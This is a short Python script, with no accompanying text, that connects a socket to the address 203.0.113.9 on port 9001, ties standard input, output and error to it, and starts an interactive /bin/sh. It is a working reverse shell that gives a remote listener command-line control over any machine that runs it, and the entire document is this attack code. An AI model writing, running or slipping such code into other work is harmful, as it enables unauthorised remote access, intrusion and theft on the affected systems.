import socket, subprocess, os
s = socket.socket(); s.connect(('203.0.113.9', 9001))
[os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]
subprocess.call(['/bin/sh', '-i'])
